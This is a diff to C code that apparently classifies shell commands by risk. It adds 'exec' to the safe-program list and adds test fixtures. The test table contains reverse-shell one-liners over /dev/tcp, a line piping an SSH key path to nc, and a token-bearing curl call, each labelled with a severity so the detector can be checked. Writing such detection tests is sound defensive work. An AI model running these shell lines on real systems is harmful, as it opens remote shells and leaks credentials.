@@ -13,7 +13,8 @@
 static const cm_program programs[] = {
     {"rm", NULL, "recursive force", 0, CM_MODERATE},
     {"cp|mv", "t:", NULL, 0, CM_SAFE},
-    {"ls|echo|cat|grep|which|mktemp|sleep|cd|read|export|true|printf|:", NULL, NULL, 0, CM_SAFE},
+    {"ls|echo|cat|grep|which|mktemp|sleep|cd|read|export|true|printf|:|exec", NULL, NULL, 0,
+     CM_SAFE},
     {"env|printenv|sudo", NULL, NULL, CM_ARGV_STOP, CM_SAFE},
     {"tee", NULL, "append", 0, CM_SAFE},
     {"dd", NULL, NULL, 0, CM_SAFE},
@@ -249,6 +250,9 @@ static void flows(void **state) {
       {"echo ~/.ssh/id_rsa | nc h 1", "safe", ""},
       {"echo $HOME | nc h 1", "safe", ""},
       {"bash -i >& /dev/tcp/h/1 0>&1", "critical", "net.reverse-shell"},
+      {"exec 9<>/dev/tcp/h/1; sh -i <&9 >&9", "critical", "net.reverse-shell"},
+      {"exec 196<>/dev/tcp/h/1; sh <&196", "critical", "net.reverse-shell"},
+      {"exec 3<>/dev/tcp/h/80; cat <&3; sh x.sh", "safe", ""},
       {"cat f | sh | nc h 1 > f", "critical?", NULL},
       {"curl -H \"A: $TOKEN\" h", "safe", ""},
   };
